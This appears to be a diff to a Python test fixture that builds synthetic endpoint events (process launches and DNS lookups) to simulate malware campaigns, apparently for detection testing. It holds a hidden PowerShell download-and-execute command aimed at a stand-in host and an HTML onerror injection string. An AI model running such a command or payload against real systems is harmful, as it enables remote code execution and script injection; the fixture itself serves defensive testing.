@@ -16,6 +16,8 @@ START = 1_790_000_000.0
 DAY = 86_400.0
 HOSTS = [f"ws-{i:04d}" for i in range(40)]
 CAMPAIGN_HOSTS = HOSTS[:10]
+SECOND_HOSTS = HOSTS[20:26]
+SECOND_DOMAIN = "telemetry-sync.example"
 CAMPAIGN_DOMAIN = "cdn-img-delivery.example"
 CAMPAIGN_CMD = "powershell.exe -nop -w hidden -c \"iex (iwr 'https://cdn-img-delivery.example/a.png')\" <img src=x onerror=alert(1)>"
 
@@ -59,5 +61,10 @@ def fleet_events(seed: int = 7) -> list[dict[str, Any]]:
                                CAMPAIGN_CMD, r"C:\Windows\System32\wscript.exe"))
         events.append(_dns(host, ts + 5, CAMPAIGN_DOMAIN,
                            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"))
+    for index, host in enumerate(SECOND_HOSTS):
+        ts = START + 1.7 * DAY + 300 * index
+        events.append(_dns(host, ts, SECOND_DOMAIN, r"C:\Users\Public\sync.exe"))
+        events.append(_process(host, ts - 10, r"C:\Users\Public\sync.exe", "sync.exe --quiet",
+                               r"C:\Windows\explorer.exe"))
     events.sort(key=lambda e: e["@timestamp"])
     return events
